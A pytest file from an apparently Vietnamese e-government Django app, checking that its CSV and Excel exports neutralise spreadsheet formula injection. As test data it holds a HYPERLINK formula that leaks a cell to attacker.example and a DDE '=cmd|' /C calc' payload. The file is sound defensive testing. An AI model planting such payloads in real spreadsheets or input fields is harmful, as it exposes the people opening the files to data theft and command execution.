"""Every spreadsheet export keeps formula-like text as text (OWASP "CSV injection").

What an applicant or an administrator typed comes back in the officers' Excel files; a name such
as `=HYPERLINK(...)` must not become a live formula there.
"""

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from egov.accounts.models import User
from egov.core.spreadsheet import FORMULA_STARTS, csv_cell, csv_value
from egov.dossiers.tests.factories import commune_procedure, receive
from egov.organization.models import Role
from egov.organization.tests.factories import make_member
from egov.procedures import exchange
from egov.procedures.models import Procedure
from egov.procedures.tests.documents import decision, document, entry
from egov.procedures.tests.test_admin import logged_in

VN = ZoneInfo("Asia/Ho_Chi_Minh")
EVIL_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
EVIL_ADDRESS = "+84-xóm Làng Mới"
EVIL_PHONE = "@SUM(1+1)"


def test_every_formula_start_is_escaped_in_csv_and_read_back():
    for start in FORMULA_STARTS:
        text = f"{start}1+1"
        assert csv_cell(text) == f"'{text}"
        assert csv_value(f"'{text}") == text
    assert csv_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert csv_cell(-5) == -5  # numbers stay numbers
    assert csv_value("'quoted on purpose") == "'quoted on purpose"


def test_tracking_book_excel_keeps_an_applicants_formula_as_text(province):
    desk = make_member(Role.DESK_OFFICER, province.commune, "motcua.xlsx")
    version = commune_procedure(days="2")
    with time_machine.travel(dt.datetime(2026, 3, 2, 9, 0, tzinfo=VN), tick=False):
        dossier = receive(
            version, province.commune, desk, name=EVIL_NAME, address=EVIL_ADDRESS, phone="0912345678"
        )
    client = Client()
    client.force_login(desk)

    response = client.get("/can-bo/ho-so/so-theo-doi/?unit=H51.60&from=2026-03-01&to=2026-03-31&format=xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == dossier.code)
    name, address = row[4], row[5]
    assert (name.value, name.data_type, name.quotePrefix) == (EVIL_NAME, "s", True)
    assert (address.value, address.data_type, address.quotePrefix) == (EVIL_ADDRESS, "s", True)
    # Nothing in the workbook is a formula.
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)


def test_statistics_excel_keeps_a_formula_like_unit_name_as_text(province):
    province.commune.name = "=Xã Đồng Hỷ"
    province.commune.save(update_fields=["name"])
    desk = make_member(Role.DESK_OFFICER, province.commune, "motcua.xlsx")
    with time_machine.travel(dt.datetime(2026, 3, 2, 9, 0, tzinfo=VN), tick=False):
        receive(commune_procedure(days="2"), province.commune, desk)
    client = Client()
    client.force_login(desk)

    response = client.get(
        reverse("dashboard:statistics_excel"), {"period": "month", "year": "2026", "month": "3"}
    )

    assert response.status_code == 200, response.content[:300]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for r in sheet.iter_rows() for cell in r]
    assert any((cell.value, cell.data_type, cell.quotePrefix) == ("=Xã Đồng Hỷ", "s", True) for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.django_db
def test_catalogue_csv_escapes_formulas_and_imports_them_back(client):
    user = User.objects.create_superuser("sieuquantri", "quantri@example.vn", "mat-khau-dai-123")
    logged_in(client, user)
    doc = document(decision("1/QĐ-UBND", entry("1.000001", name="=cmd|' /C calc'!A0")))
    client.post(
        reverse("admin:procedures_procedure_import"),
        {"file": SimpleUploadedFile("catalogue.csv", exchange.to_csv(doc).encode())},
    )
    assert Procedure.objects.get().versions.get().name == "=cmd|' /C calc'!A0"

    response = client.get(reverse("admin:procedures_procedure_export") + "?format=csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["name"] == "'=cmd|' /C calc'!A0"
    assert exchange.parse_csv(response.content).decisions[0].entries[0].version.name == "=cmd|' /C calc'!A0"
